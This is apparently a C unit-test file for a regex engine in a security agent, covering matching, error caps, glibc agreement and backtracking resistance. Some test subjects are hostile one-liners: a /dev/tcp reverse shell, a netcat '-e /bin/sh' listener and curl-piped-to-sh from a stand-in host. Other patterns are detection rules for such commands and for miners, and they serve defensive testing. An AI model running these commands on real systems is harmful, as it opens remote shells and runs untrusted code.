/* SPDX-License-Identifier: MIT */
/*
 * common/regex: the dialect (a table of pattern × subject × expected match and groups), the
 * errors and caps, agreement with glibc regexec on what both support (a table and a seeded
 * random differential run: same match/no-match, same leftmost start and POSIX longest end),
 * and hostile patterns and subjects (refused by the caps, or run with memory capped).
 */
#include <errno.h>
#include <pthread.h>
#include <regex.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "common/alloc.h"
#include "common/array.h"
#include "common/regex-int.h" /* rx_dfa_search: the DFA alone, against the VM */
#include "common/regex.h"

static struct es_regex *compile_ok(const char *pattern, unsigned flags)
{
	struct es_regex *re = NULL;
	struct es_regex_error err;
	int r = es_regex_compile(pattern, strlen(pattern), flags, &re, &err);

	if (r != 0)
		fail_msg("/%s/: %d %s at %zu", pattern, r, err.message, err.offset);
	return re;
}

/* "start-end" per group, "-" for a group that did not take part, "" = no match. */
static void spans(const struct es_regex_match *g, unsigned n, char *out, size_t size)
{
	size_t o = 0;

	out[0] = '\0';
	for (unsigned i = 0; i < n; i++) {
		if (g[i].matched)
			o += (size_t)snprintf(out + o, size - o, "%s%zu-%zu", i ? " " : "",
					      g[i].start, g[i].end);
		else
			o += (size_t)snprintf(out + o, size - o, "%s-", i ? " " : "");
		if (o >= size)
			break;
	}
}

struct match_case {
	const char *pattern;
	unsigned flags;
	const char *subject;
	const char *expect; /* spans() of all the pattern's groups; NULL = no match */
};

static const struct match_case match_cases[] = {
	/* literals, ., anchors */
	{ "abc", 0, "xxabcxx", "2-5" },
	{ "abc", 0, "ab", NULL },
	{ "a.c", 0, "a\nc", "0-3" }, /* . matches any byte, newline included */
	{ "^abc", 0, "abcabc", "0-3" },
	{ "^abc", 0, "xabc", NULL },
	{ "abc$", 0, "abcabc", "3-6" },
	{ "^$", 0, "", "0-0" },
	{ "$", 0, "ab", "2-2" },
	{ "", 0, "ab", "0-0" },
	{ "a^b", 0, "a^b", NULL },
	/* repetition: leftmost, then longest */
	{ "a*", 0, "baaa", "0-0" },
	{ "a+", 0, "baaa", "1-4" },
	{ "ba?", 0, "bab", "0-2" },
	{ "a{2}", 0, "aaaa", "0-2" },
	{ "a{2,}", 0, "aaaa", "0-4" },
	{ "a{2,3}", 0, "aaaa", "0-3" },
	{ "a{,2}b", 0, "aaab", "1-4" },
	{ "a{0}b", 0, "ab", "1-2" },
	{ "x(ab){2,3}", 0, "xababababab", "0-7 5-7" },
	{ "a|ab", 0, "abc", "0-2" },
	{ "(a|ab)(c|bcd)", 0, "abcd", "0-4 0-1 1-4" },
	{ "(a*)*b", 0, "aaab", "0-4 0-3" },
	{ "(a*)+b", 0, "b", "0-1 0-0" },
	{ "(|a)+", 0, "aa", "0-2 1-2" },
	{ "(a+|b)*", 0, "ab", "0-2 1-2" },
	/* groups */
	{ "(a)(b)?(c)", 0, "ac", "0-2 0-1 - 1-2" },
	{ "(?:ab)+(c)", 0, "ababc", "0-5 4-5" },
	{ "((a)|(b))+", 0, "ab", "0-2 1-2 0-1 1-2" },
	{ "curl .*-o +([^ ]+)", 0, "curl -s -o /tmp/x.sh http://h/x", "0-20 11-20" },
	{ "(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)", 0, "abcdefghijk",
	  "0-11 0-1 1-2 2-3 3-4 4-5 5-6 6-7 7-8 8-9" },
	/* brackets */
	{ "[abc]+", 0, "xxbcay", "2-5" },
	{ "[^abc]+", 0, "abxyc", "2-4" },
	{ "[a-c]+", 0, "dcbae", "1-4" },
	{ "[]a]+", 0, "x]a]", "1-4" },
	{ "[^]a]", 0, "]ab", "2-3" },
	{ "[a-]+", 0, "x-a-", "1-4" },
	{ "[-a]+", 0, "x-a-", "1-4" },
	{ "[[:digit:]]+", 0, "ab123c", "2-5" },
	{ "[[:space:]]+", 0, "a \t\nb", "1-4" },
	{ "[[:alpha:]]+", 0, "12abC3", "2-5" },
	{ "[[:alnum:]_]+", 0, "-a_1-", "1-4" },
	{ "[[:upper:]]+", 0, "abCDe", "2-4" },
	{ "[[:lower:]]+", 0, "ABcdE", "2-4" },
	{ "[[:xdigit:]]+", 0, "xyzBeef0g", "3-8" },
	{ "[[:punct:]]+", 0, "ab!-/c", "2-5" },
	{ "[[:blank:]]+", 0, "a \t\nb", "1-3" },
	{ "[[.a.]]", 0, "ba", "1-2" },
	{ "[\\]]", 0, "a]", "1-2" },
	{ "[\\\\]", 0, "a\\", "1-2" },
	{ "[\\d.]+", 0, "v1.25x", "1-5" },
	{ "[^\\s]+", 0, "  ab ", "2-4" },
	{ "[\\x41-\\x43]+", 0, "zABCD", "1-4" },
	{ "[^a]", 0, "\xff", "0-1" }, /* bytes over 0x7f are in negated sets */
	/* escapes and Perl shorthands */
	{ "a\\.b", 0, "axb a.b", "4-7" },
	{ "\\d+", 0, "pid 4242", "4-8" },
	{ "\\D+", 0, "12ab3", "2-4" },
	{ "\\s+", 0, "a \t b", "1-4" },
	{ "\\S+", 0, "  ab ", "2-4" },
	{ "\\w+", 0, "-ab_1-", "1-5" },
	{ "\\W+", 0, "ab-+c", "2-4" },
	{ "\\bfoo\\b", 0, "afoo foo", "5-8" },
	{ "\\Boo", 0, "oo foo", "4-6" },
	{ "\\<ab", 0, "cab ab", "4-6" },
	{ "ab\\>", 0, "abc ab", "4-6" },
	{ "\\t\\n", 0, "a\t\n", "1-3" },
	{ "\\x2f", 0, "a/b", "1-2" },
	{ "\\$\\{HOME\\}", 0, "echo ${HOME}", "5-12" },
	{ "a}", 0, "a}", "0-2" },
	{ "a]", 0, "a]", "0-2" },
	/* case-insensitive */
	{ "abc", ES_REGEX_ICASE, "xABc", "1-4" },
	{ "[a-c]+", ES_REGEX_ICASE, "xAbC", "1-4" },
	{ "[^a]", ES_REGEX_ICASE, "Ab", "1-2" },
	{ "[[:upper:]]+", ES_REGEX_ICASE, "aB", "0-2" },
	{ "\\bwget\\b", ES_REGEX_ICASE, "/usr/bin/WGet -q", "9-13" },
	{ "1-9", ES_REGEX_ICASE, "1-9", "0-3" },
	/* the literal prefilter: at the edges, in either case, in one branch of several */
	{ "/dev/tcp/", 0, "/dev/tcp/", "0-9" },
	{ "/dev/(tcp|udp)/[0-9]+", 0, "x/dev/udp/53", "1-12 6-9" },
	{ "/dev/(tcp|udp)/[0-9]+", 0, "x/dev/udp/", NULL },
	{ "xmrig|minerd", ES_REGEX_ICASE, "/tmp/.X/XMRig-6", "8-13" },
	{ "xmrig|minerd", ES_REGEX_ICASE, "/tmp/.X/XMRi", NULL },
	{ "kworkerds", ES_REGEX_ICASE, "KWORKERDSkworkerd", "0-9" },
	{ "(ab|cd)ef", 0, "xcdef", "1-5 1-3" },
	{ "(ab|cd|)ef", 0, "xxef", "2-4 2-2" },
	{ "base64 +-d", 0, "base64 base64  -d", "7-17" },
	{ "a{3}b", 0, "aabaaab", "3-7" },
	{ "zq", ES_REGEX_ICASE, "zzqQZq", "1-3" },
};

static void test_match_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(match_cases); i++) {
		const struct match_case *c = &match_cases[i];
		struct es_regex *re = compile_ok(c->pattern, c->flags);
		struct es_regex_match g[ES_REGEX_GROUPS_MAX];
		unsigned n = es_regex_n_groups(re);
		char got[256];
		int r = es_regex_search(re, c->subject, strlen(c->subject), g, n);

		if (r < 0)
			fail_msg("/%s/: search error %d", c->pattern, r);
		spans(g, n, got, sizeof(got));
		if (!c->expect && r != 0)
			fail_msg("/%s/ on '%s': matched %s, expected no match", c->pattern,
				 c->subject, got);
		if (c->expect && (r != 1 || strcmp(got, c->expect) != 0))
			fail_msg("/%s/ on '%s': %d '%s', expected '%s'", c->pattern, c->subject, r,
				 got, c->expect);
		/* Without groups, only whether it matches. */
		assert_int_equal(es_regex_search(re, c->subject, strlen(c->subject), NULL, 0), r);
		assert_int_equal(es_regex_search(re, c->subject, strlen(c->subject), g, 0), r);
		es_regex_free(re);
	}
}

static void test_groups_api(void **state)
{
	struct es_regex *re = compile_ok("x(a)(b)?", 0);
	struct es_regex_match g[ES_REGEX_GROUPS_MAX];

	(void)state;
	assert_int_equal(es_regex_n_groups(re), 3);
	/* More groups asked for than the pattern has: the rest are unmatched. */
	memset(g, 0xa5, sizeof(g));
	assert_int_equal(es_regex_search(re, "zxa", 3, g, ES_REGEX_GROUPS_MAX), 1);
	assert_true(g[0].matched && g[0].start == 1 && g[0].end == 3);
	assert_true(g[1].matched && g[1].start == 2 && g[1].end == 3);
	for (unsigned i = 2; i < ES_REGEX_GROUPS_MAX; i++)
		assert_false(g[i].matched);
	/* Fewer: only those are written. */
	g[1].matched = true;
	g[1].start = 77;
	assert_int_equal(es_regex_search(re, "zxab", 4, g, 1), 1);
	assert_true(g[0].start == 1 && g[0].end == 4);
	assert_int_equal(g[1].start, 77);
	/* No match: every group unmatched. */
	assert_int_equal(es_regex_search(re, "zzz", 3, g, 3), 0);
	for (unsigned i = 0; i < 3; i++)
		assert_false(g[i].matched);
	/* The subject is bytes with a length: NUL inside, not terminated. */
	assert_int_equal(es_regex_search(re, "\0xa", 3, g, 1), 1);
	assert_int_equal(g[0].start, 1);
	assert_int_equal(es_regex_search(re, "xa", 1, NULL, 0), 0);
	assert_int_equal(es_regex_search(re, NULL, 0, NULL, 0), 0);
	assert_int_equal(es_regex_search(re, NULL, 1, NULL, 0), -EINVAL);
	assert_int_equal(es_regex_search(NULL, "x", 1, NULL, 0), -EINVAL);
	es_regex_free(re);
	es_regex_free(NULL);
	assert_int_equal(es_regex_n_groups(NULL), 0);

	/* A NUL byte in the pattern is a literal. */
	{
		struct es_regex_error err;

		assert_int_equal(es_regex_compile("a\0b", 3, 0, &re, &err), 0);
		assert_int_equal(es_regex_search(re, "xa\0b", 4, g, 1), 1);
		assert_int_equal(g[0].start, 1);
		assert_int_equal(es_regex_search(re, "xab", 3, NULL, 0), 0);
		es_regex_free(re);
	}
	/* Groups past the 9th group like (?:. */
	re = compile_ok("(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)", 0);
	assert_int_equal(es_regex_n_groups(re), ES_REGEX_GROUPS_MAX);
	es_regex_free(re);
	re = compile_ok("(?:a)(b)", 0);
	assert_int_equal(es_regex_n_groups(re), 2);
	es_regex_free(re);
}

struct error_case {
	const char *pattern;
	int code;
	size_t offset;
	const char *message; /* substring */
};

static const struct error_case error_cases[] = {
	{ "(a)\\1", -EINVAL, 3, "back-references" },
	{ "a**", -EINVAL, 2, "right after another" },
	{ "a+?", -EINVAL, 2, "lazy" },
	{ "a{2}{3}", -EINVAL, 4, "right after another" },
	{ "*a", -EINVAL, 0, "nothing to repeat" },
	{ "a|+", -EINVAL, 2, "nothing to repeat" },
	{ "({2})", -EINVAL, 1, "nothing to repeat" },
	{ "{", -EINVAL, 0, "nothing to repeat" },
	{ "(a", -EINVAL, 0, "unmatched (" },
	{ "a)", -EINVAL, 1, "unmatched )" },
	{ "[a", -EINVAL, 0, "unterminated [" },
	{ "[]", -EINVAL, 0, "unterminated [" },
	{ "[[:digit:]", -EINVAL, 0, "unterminated [" },
	{ "[[:digit]]", -EINVAL, 1, "unterminated [:" },
	{ "[[:foo:]]", -EINVAL, 1, "unknown character class [:foo:]" },
	{ "[[.ab.]]", -EINVAL, 1, "single-byte" },
	{ "[z-a]", -EINVAL, 2, "invalid range" },
	{ "[a-\\d]", -EINVAL, 2, "invalid range" },
	{ "[\\d-z]", -EINVAL, 3, "cannot start with a class" },
	{ "a{", -EINVAL, 1, "unterminated {" },
	{ "a{1", -EINVAL, 1, "unterminated {" },
	{ "a{x}", -EINVAL, 1, "invalid {m,n}" },
	{ "a{}", -EINVAL, 1, "invalid {m,n}" },
	{ "a{3,2}", -EINVAL, 1, "smaller" },
	{ "a\\", -EINVAL, 1, "trailing backslash" },
	{ "\\q", -EINVAL, 0, "unknown escape \\q" },
	{ "\\0", -EINVAL, 0, "unknown escape" },
	{ "\\x4", -EINVAL, 0, "two hex digits" },
	{ "(?i)a", -EINVAL, 0, "(?:" },
	{ "(?=a)", -EINVAL, 0, "(?:" },
	{ "a{1001}", -E2BIG, 2, "repetition bound over 1000" },
	{ "a{0,99999999999999999999}", -E2BIG, 4, "repetition bound" },
	{ "(a{1000}){1000}", -E2BIG, 9, "more than 8192 instructions" },
	{ "((a{20}){20}){21}", -E2BIG, 13, "more than 8192" },
	{ "(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:("
	  "?:"
	  "(?:(?:(?:a)))))))))))))))))))))))))))))))))",
	  -E2BIG, 96, "nested deeper than 32" },
};

static void test_errors(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(error_cases); i++) {
		const struct error_case *c = &error_cases[i];
		struct es_regex *re = NULL;
		struct es_regex_error err;
		int r = es_regex_compile(c->pattern, strlen(c->pattern), 0, &re, &err);

		if (r != c->code || re)
			fail_msg("/%s/: %d, expected %d", c->pattern, r, c->code);
		if (!strstr(err.message, c->message) || err.offset != c->offset)
			fail_msg("/%s/: '%s' at %zu, expected '%s' at %zu", c->pattern, err.message,
				 err.offset, c->message, c->offset);
		/* err is optional. */
		assert_int_equal(es_regex_compile(c->pattern, strlen(c->pattern), 0, &re, NULL),
				 c->code);
	}
	{
		struct es_regex *re = NULL;
		struct es_regex_error err;

		assert_int_equal(es_regex_compile("a", 1, 0x80, &re, &err), -EINVAL);
		assert_int_equal(es_regex_compile(NULL, 1, 0, &re, &err), -EINVAL);
		assert_int_equal(es_regex_compile(NULL, 0, 0, &re, &err), 0);
		assert_int_equal(es_regex_search(re, "x", 1, NULL, 0), 1);
		es_regex_free(re);
	}
}

/* ---- agreement with glibc ---- */

/* Both engines, whole match only: same verdict, same start, same (longest) end. */
static void cross_check_flags(const char *pattern, const char *subject, unsigned flags)
{
	struct es_regex_match g[1];
	struct es_regex *re = NULL;
	regmatch_t m[1];
	regex_t gre;
	int ours, theirs;

	if (regcomp(&gre, pattern, REG_EXTENDED | (flags & ES_REGEX_ICASE ? REG_ICASE : 0)) != 0)
		fail_msg("glibc refuses /%s/", pattern);
	re = compile_ok(pattern, flags);
	theirs = regexec(&gre, subject, 1, m, 0) == 0;
	ours = es_regex_search(re, subject, strlen(subject), g, 1);
	/* the DFA alone, and the match-only search (DFA from RX_DFA_MIN_LEN bytes on) agree */
	if (rx_dfa_search(re, (const unsigned char *)subject, strlen(subject)) != ours ||
	    es_regex_search(re, subject, strlen(subject), NULL, 0) != ours)
		fail_msg("/%s/%s on '%s': the DFA disagrees with the VM (%d)", pattern,
			 flags ? "i" : "", subject, ours);
	if (ours != theirs ||
	    (ours && ((size_t)m[0].rm_so != g[0].start || (size_t)m[0].rm_eo != g[0].end)))
		fail_msg("/%s/%s on '%s': glibc %d [%d,%d], ours %d [%zu,%zu]", pattern,
			 flags ? "i" : "", subject, theirs, theirs ? (int)m[0].rm_so : -1,
			 theirs ? (int)m[0].rm_eo : -1, ours, g[0].start, g[0].end);
	es_regex_free(re);
	regfree(&gre);
}

static void cross_check(const char *pattern, const char *subject)
{
	cross_check_flags(pattern, subject, 0);
}

static const char *const xpatterns[] = {
	"abc",
	"a.c",
	"^ab",
	"bc$",
	"a*",
	"a+b",
	"ab?c",
	"a{2,3}",
	"(ab|a)(bc|c)",
	"(a|ab|abc)+d",
	"x(a|b)*y",
	"[[:digit:]]+",
	"[^[:space:]]+",
	"[a-f0-9]{2,}",
	"^[[:space:]]*PermitRootLogin[[:space:]]+yes",
	"^root:[^:]*:0:",
	"(^|[^a-z])nc(at)?[[:space:]]+-[a-z]*e",
	"(curl|wget).*(\\||;)[[:space:]]*(ba)?sh",
	"/dev/tcp/[0-9.]+/[0-9]+",
	"base64 +(-d|--decode)",
	"(a*)*b",
	"(a+)+$",
	"(x+x+)+y",
	"(.*)(.*)",
	"a|b|c|",
	"()",
	"(|a)b",
	"\\.\\*\\[",
	"[]x]",
	"[^]x]",
	"[a-]",
	"a{0}",
	"a{,2}",
};

static const char *const xsubjects[] = {
	"",
	"abc",
	"aabbcc",
	"xabcabcdy",
	"  PermitRootLogin yes",
	"PermitRootLogin no",
	"root:x:0:0:root:/root:/bin/bash",
	"/bin/nc -lvp 4444 -e /bin/sh",
	"curl -s http://evil/x | sh",
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"echo aGVsbG8= | base64 --decode",
	"aaaaaaaaaaaaaaaaaaaab",
	"xxxxxxxxxxxxxxxxxxxxxxxxx",
	"a.*[b",
	"]x-a",
	"deadbeef 12",
};

static void test_glibc_table(void **state)
{
	(void)state;
	for (size_t p = 0; p < ARRAY_SIZE(xpatterns); p++)
		for (size_t s = 0; s < ARRAY_SIZE(xsubjects); s++)
			cross_check(xpatterns[p], xsubjects[s]);
}

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static unsigned rng(unsigned n)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return (unsigned)(rng_state % n);
}

/*
 * A random pattern over a small alphabet.  Anchors only at the very start or end: glibc
 * mis-handles ^ and $ inside repeated groups ("(b|^|(.+$c|x)+.+)+" on "a bc  1" reports a
 * match of the whole string; Python's re and we find none).
 */
static void random_pattern(char *b, size_t *n, size_t cap, int depth)
{
	static const char *const sets[] = { "[ab]",	   "[^a]",	   "[a-c]",
					    "[[:digit:]]", "[^[:alpha:]]", "." };
	int items = 1 + (int)rng(3);

	for (int i = 0; i < items && *n + 40 < cap; i++) {
		unsigned k = rng(depth > 2 ? 6 : 8), q = rng(8);

		if (k < 4) {
			b[(*n)++] = "abc1"[k];
		} else if (k < 6) {
			const char *s = sets[rng(6)];

			memcpy(b + *n, s, strlen(s));
			*n += strlen(s);
		} else {
			b[(*n)++] = '(';
			random_pattern(b, n, cap, depth + 1);
			if (rng(2)) {
				b[(*n)++] = '|';
				random_pattern(b, n, cap, depth + 1);
			}
			b[(*n)++] = ')';
		}
		if (q < 3)
			b[(*n)++] = "*+?"[q];
		else if (q == 3)
			*n += (size_t)snprintf(b + *n, cap - *n, "{%u,%u}", rng(2), 2 + rng(2));
	}
	if (rng(6) == 0 && *n + 40 < cap) {
		b[(*n)++] = '|';
		random_pattern(b, n, cap, depth + 1);
	}
}

static void test_glibc_random(void **state)
{
	unsigned compared = 0;

	(void)state;
	for (int it = 0; it < 4000; it++) {
		char pattern[512], subject[320];
		/* one in four long enough for the DFA and the VM's first pass */
		size_t n = 0, len = it % 4 ? rng(14) : rng(300);

		if (rng(4) == 0)
			pattern[n++] = '^';
		random_pattern(pattern, &n, sizeof(pattern) - 2, 0);
		if (rng(4) == 0)
			pattern[n++] = '$';
		pattern[n] = '\0';
		for (size_t i = 0; i < len; i++)
			subject[i] = "abc1 ABC"[rng(it % 3 ? 5 : 8)];
		subject[len] = '\0';
		/* one in three case-insensitive, with upper-case letters in the subject */
		cross_check_flags(pattern, subject, it % 3 ? 0 : ES_REGEX_ICASE);
		compared++;
	}
	assert_int_equal(compared, 4000);
}

/*
 * The DFA's state cache fills up on a pattern whose DFA is exponential ("an a, then 12 more
 * bytes"); the search then falls back to the VM, the cache starts afresh, and every answer
 * stays the VM's.
 */
static void test_dfa_cache_full(void **state)
{
	struct es_regex *re = compile_ok("(a|b)*a(a|b){12}c", 0);
	struct es_regex_match g[2];
	size_t len = 20000;
	char *s = malloc(len + 1);

	(void)state;
	assert_non_null(s);
	for (size_t i = 0; i < len; i++)
		s[i] = "ab"[rng(2)];
	s[len] = '\0';
	assert_int_equal(rx_dfa_search(re, (const unsigned char *)s, len), -E2BIG);
	assert_int_equal(es_regex_search(re, s, len, NULL, 0), 0);
	memcpy(s + len - 14, "aabababababab", 13);
	s[len - 1] = 'c';
	assert_int_equal(es_regex_search(re, s, len, NULL, 0), 1);
	assert_int_equal(es_regex_search(re, s, len, g, 2), 1);
	assert_int_equal(g[0].start, 0);
	assert_int_equal(g[0].end, len);
	/* short subjects after a reset still match through the cache */
	assert_int_equal(es_regex_search(re, "xxaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac", 36, NULL, 0),
			 1);
	assert_int_equal(es_regex_search(re, "xxbaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", 36, NULL, 0),
			 0);
	es_regex_free(re);
	free(s);
}

struct thread_arg {
	const struct es_regex *re;
	const char *subject;
	size_t len;
	int expect, mismatches;
};

static void *search_thread(void *p)
{
	struct thread_arg *a = p;

	for (int i = 0; i < 2000; i++)
		if (es_regex_search(a->re, a->subject, a->len, NULL, 0) != a->expect)
			a->mismatches++;
	return NULL;
}

/* One compiled regex searched from two threads at once: each search has the shared DFA
 * cache or a private one, and every answer is right (also run under ASan). */
static void test_threads(void **state)
{
	struct es_regex *re = compile_ok("(curl|wget)[^|]*\\|[[:space:]]*(ba)?sh", 0);
	static const char yes[] = "/bin/sh -c curl -s http://h/x.sh -o - | bash -s -- --opt",
			  no[] = "/bin/sh -c curl -s http://h/x.sh -o /tmp/x.sh ; sh /tmp/x.sh";
	struct thread_arg a = { re, yes, sizeof(yes) - 1, 1, 0 },
			  b = { re, no, sizeof(no) - 1, 0, 0 };
	pthread_t ta, tb;

	(void)state;
	assert_int_equal(pthread_create(&ta, NULL, search_thread, &a), 0);
	assert_int_equal(pthread_create(&tb, NULL, search_thread, &b), 0);
	pthread_join(ta, NULL);
	pthread_join(tb, NULL);
	assert_int_equal(a.mismatches, 0);
	assert_int_equal(b.mismatches, 0);
	es_regex_free(re);
}

/* ---- hostile patterns and subjects ---- */

static char *repeat_byte(char c, size_t n)
{
	char *s = malloc(n + 1);

	assert_non_null(s);
	memset(s, c, n);
	s[n] = '\0';
	return s;
}

/* Every compile and search below runs with the agent's heap capped a few MiB above what is in
 * use: a blow-up would fail with -ENOMEM instead of the expected result. */
static void cap_heap(void)
{
	es_alloc_set_limit(es_alloc_in_use() + (8u << 20));
}

static void test_pathological_patterns(void **state)
{
	struct es_regex *re = NULL;
	struct es_regex_error err;
	char *pat = repeat_byte('+', 100000), *nest;
	size_t n;

	(void)state;
	pat[0] = 'a';
	cap_heap();
	/* Issue 12: "a" and a run of '+'.  Over the size cap, and under it. */
	assert_int_equal(es_regex_compile(pat, 100000, 0, &re, &err), -E2BIG);
	assert_non_null(strstr(err.message, "longer than 4096"));
	assert_int_equal(es_regex_compile(pat, ES_REGEX_PATTERN_MAX, 0, &re, &err), -EINVAL);
	assert_non_null(strstr(err.message, "right after another"));
	assert_int_equal(err.offset, 2);
	/* Nesting: 32 groups compile, 33 do not; deep nesting of stars is small. */
	nest = malloc(4 * 40 + 8);
	assert_non_null(nest);
	for (unsigned depth = 31; depth <= 33; depth++) {
		n = 0;
		for (unsigned i = 0; i < depth; i++)
			nest[n++] = '(';
		nest[n++] = 'a';
		for (unsigned i = 0; i < depth; i++) {
			nest[n++] = ')';
			nest[n++] = '*';
		}
		int r = es_regex_compile(nest, n, 0, &re, &err);

		assert_int_equal(r, depth <= ES_REGEX_DEPTH_MAX ? 0 : -E2BIG);
		if (r == 0) {
			char *s = repeat_byte('a', 100000);
			struct es_regex_match g[ES_REGEX_GROUPS_MAX];

			assert_int_equal(es_regex_search(re, s, 100000, g, ES_REGEX_GROUPS_MAX), 1);
			assert_int_equal(g[0].end, 100000);
			free(s);
			es_regex_free(re);
		}
	}
	free(nest);
	/* Expansion: at the cap exactly, and one over. */
	assert_int_equal(es_regex_compile("a{1000}", 7, 0, &re, &err), 0);
	es_regex_free(re);
	/* (a{100}){81}: 81 × (100 + 2 saves) + 3 > 8192 */
	assert_int_equal(es_regex_compile("(a{100}){81}", 12, 0, &re, &err), -E2BIG);
	assert_int_equal(es_regex_compile("(a{100}){80}", 12, 0, &re, &err), 0);
	es_regex_free(re);
	/* Alternation counts too: 8192 / 3 branches of one byte. */
	free(pat);
	pat = repeat_byte('a', ES_REGEX_PATTERN_MAX);
	for (size_t i = 1; i < ES_REGEX_PATTERN_MAX; i += 2)
		pat[i] = '|';
	assert_int_equal(es_regex_compile(pat, ES_REGEX_PATTERN_MAX - 1, 0, &re, &err), 0);
	es_regex_free(re);
	free(pat);
	es_alloc_set_limit(0);
}

static void search_hostile(const char *pattern, const char *subject, size_t len, int expect)
{
	struct es_regex *re = compile_ok(pattern, 0);
	struct es_regex_match g[ES_REGEX_GROUPS_MAX];

	cap_heap();
	assert_int_equal(es_regex_search(re, subject, len, NULL, 0), expect);
	assert_int_equal(es_regex_search(re, subject, len, g, ES_REGEX_GROUPS_MAX), expect);
	es_alloc_set_limit(0);
	es_regex_free(re);
}

/* Patterns that take exponential time in a backtracking engine, over 100 kB subjects: each
 * finishes within the test's timeout only if matching is linear. */
static void test_pathological_subjects(void **state)
{
	size_t len = 100000;
	char *a = repeat_byte('a', len), *x = repeat_byte('x', len);

	(void)state;
	search_hostile("(a*)*b", a, len, 0);
	search_hostile("(a|a)*b", a, len, 0);
	search_hostile("(a|aa)+$", a, len, 1);
	search_hostile("(x+x+)+y", x, len, 0);
	search_hostile("^(([a-z])+.)+[A-Z]([a-z])+$", a, len, 0);
	search_hostile("(.*){20}z", x, len / 10, 0);
	search_hostile("a{1000}b", a, len / 10, 0); /* 1000 threads live at each byte */
	search_hostile("(a?){50}a{50}", a, 60, 1);
	x[len - 1] = 'y';
	search_hostile("(x+x+)+y", x, len, 1);
	free(a);
	free(x);
}

/* A rule-like search over a 64 KiB command line: the match near the end is found. */
static void test_long_command_line(void **state)
{
	size_t len = 65536;
	char *cmd = repeat_byte('A', len);
	struct es_regex *re = compile_ok("(curl|wget)[^|]*-o +([^ ]+)", ES_REGEX_ICASE);
	struct es_regex_match g[3];
	const char *tail = "curl -o /tmp/.x http://h";

	(void)state;
	memcpy(cmd + len - strlen(tail) - 1, tail, strlen(tail));
	cmd[len - strlen(tail) - 2] = ' ';
	assert_int_equal(es_regex_search(re, cmd, len, g, 3), 1);
	assert_true(g[2].matched);
	assert_int_equal(g[2].end - g[2].start, strlen("/tmp/.x"));
	assert_memory_equal(cmd + g[2].start, "/tmp/.x", 7);
	es_regex_free(re);
	free(cmd);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_match_table),
		cmocka_unit_test(test_groups_api),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_glibc_table),
		cmocka_unit_test(test_glibc_random),
		cmocka_unit_test(test_dfa_cache_full),
		cmocka_unit_test(test_threads),
		cmocka_unit_test(test_pathological_patterns),
		cmocka_unit_test(test_pathological_subjects),
		cmocka_unit_test(test_long_command_line),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
